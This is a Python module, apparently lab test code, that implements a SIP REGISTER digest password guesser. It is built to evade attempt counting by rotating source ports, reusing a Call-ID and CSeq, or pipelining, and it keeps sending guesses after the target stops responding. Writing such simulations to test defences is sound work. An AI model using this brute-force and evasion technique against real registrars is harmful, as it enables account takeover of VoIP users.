"""A password guesser that takes a new port for each try, as sippts does, and worse.

It asks for a challenge, then tries one password of a list after another. What makes
it hard to count is chosen by `Style`. When nothing answers any more it does not give
up: it sends the rest of its list without waiting.
"""

import itertools
import re
import select
import socket
import struct
import time
from collections.abc import Sequence
from typing import Final, NamedTuple

from lab import digest
from lab.addresses import SIP_PORT
from lab.messages import request
from lab.namespaces import Namespace

PATIENCE: Final = 0.4
"""Seconds it waits for an answer, as long as there are any."""

_HURRY: Final = 0.005
"""Seconds it waits when there are none: enough to send a SYN."""

_ended = itertools.count()


class Style(NamedTuple):
    """How it goes about it."""

    transport: str = "UDP"
    one_connection: bool = False
    """TCP: all tries over one connection, instead of one connection each."""
    same: bool = False
    """Every try has the same branch, Call-ID and CSeq, like a retransmission."""
    pipelined: bool = False
    """All tries at once against one nonce, answers are read afterwards."""


class Guesser:
    """One attacker; `sources` are its addresses, taken in turn."""

    def __init__(
        self,
        namespace: Namespace,
        sources: Sequence[str],
        registrar: str,
        user: str,
        style: Style,
    ) -> None:
        self._namespace = namespace
        self._sources = itertools.cycle(sources)
        self._registrar = registrar
        self._user = user
        self._style = style
        self._name = f"guess-{next(_ended)}"
        self._tries = itertools.count()
        self._ignored = False
        self._open: list[socket.socket] = []
        self.passwords: dict[bytes, str] = {}
        """The password behind each digest that was sent."""
        self.ports: set[int] = set()
        """Every source port that was used."""

    def run(self, passwords: Sequence[str]) -> bool:
        """Try a list; True as soon as a try is accepted."""
        try:
            challenge = self._ask()
            if challenge is None:  # nobody talks to it: the tries go out all the same
                challenge = digest.Challenge("lab", "0" * 32, proxy=False)
            return self._tried(passwords, challenge)
        finally:
            for line in self._open:
                line.close()
            self._open.clear()

    def _tried(self, passwords: Sequence[str], challenge: digest.Challenge) -> bool:
        waiting: list[socket.socket] = []
        for password in passwords:
            line = self._connect()
            if line is None:
                continue
            if not self._send(line, challenge, password):
                return False  # the other end has hung up for good
            if self._style.pipelined:
                waiting.append(line)
                continue
            for answer in self._answers([line]):
                if answer.startswith(b"SIP/2.0 200"):
                    return True
                challenge = digest.challenge_of(answer) or challenge
            self._done_with(line)
        found = False
        # Over one connection all answers come together.
        lines = list(dict.fromkeys(waiting))
        for answer in self._answers(lines, len(waiting)):
            found |= answer.startswith(b"SIP/2.0 200")
        return found

    def _ask(self) -> digest.Challenge | None:
        line = self._connect()
        if line is None:
            return None
        self._send(line, None, "")
        challenges = [digest.challenge_of(answer) for answer in self._answers([line])]
        self._done_with(line)
        return challenges[0] if challenges else None

    @property
    def _patience(self) -> float:
        return PATIENCE if not self._ignored else _HURRY

    def _connect(self) -> socket.socket | None:
        """Take a new socket with a new port, or the one connection."""
        if self._style.one_connection and self._open:
            return self._open[0]
        source = next(self._sources)
        family = socket.AF_INET6 if ":" in source else socket.AF_INET
        tcp = self._style.transport == "TCP"
        kind = socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM
        made = self._namespace.bound(family, kind, source, 0)
        made.settimeout(self._patience)
        if tcp:
            made.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            # Gone when closed: nothing is repeated after the test.
            made.setsockopt(
                socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0)
            )
        try:
            made.connect((self._registrar, SIP_PORT))
        except OSError:
            self._ignored = True
            made.close()
            return None
        self.ports.add(made.getsockname()[1])
        self._open.append(made)
        return made

    def _send(
        self, line: socket.socket, challenge: digest.Challenge | None, password: str
    ) -> bool:
        number = 0 if self._style.same else next(self._tries)
        address, port = line.getsockname()[:2]
        host = f"[{self._registrar}]" if ":" in self._registrar else self._registrar
        uri = f"sip:{host}"
        headers = []
        if challenge is not None:
            about = self._user, password, "REGISTER", uri
            headers = [digest.credentials(challenge, *about)]
            self.passwords[digest.proof(challenge, *about).encode()] = password
        text = request(
            "REGISTER",
            address,
            self._registrar,
            user=self._user,
            call_id=f"{self._name}-{number}",
            transport=self._style.transport,
            port=port,
            cseq=number + 1,
            headers=headers,
        )
        try:
            line.sendall(text)
        except TimeoutError:
            self._ignored = True  # its buffer is full of what nobody takes
        except OSError:
            return False
        return True

    def _answers(self, lines: Sequence[socket.socket], count: int = 1) -> list[bytes]:
        """Wait for so many answers over any of these."""
        found: list[bytes] = []
        rest: dict[socket.socket, bytes] = dict.fromkeys(lines, b"")
        end = time.monotonic() + self._patience
        while len(found) < count and rest:
            left = end - time.monotonic()
            if left <= 0:
                break
            for line in select.select(list(rest), [], [], left)[0]:
                try:
                    data = line.recv(65_536)
                except OSError:
                    data = b""
                if not data:
                    del rest[line]
                    continue
                # The registrar's answers have no body.
                *whole, rest[line] = (rest[line] + data).split(b"\r\n\r\n")
                found += [text + b"\r\n" for text in whole]
                end = time.monotonic() + self._patience
        self._ignored = not found
        return found

    def _done_with(self, line: socket.socket) -> None:
        if not self._style.one_connection:
            self._open.remove(line)
            line.close()


def digests(payloads: Sequence[bytes]) -> set[bytes]:
    """Return every digest in what a wire carried, across segments too."""
    return set(re.findall(rb'response="([0-9a-f]{32})"', b"".join(payloads)))
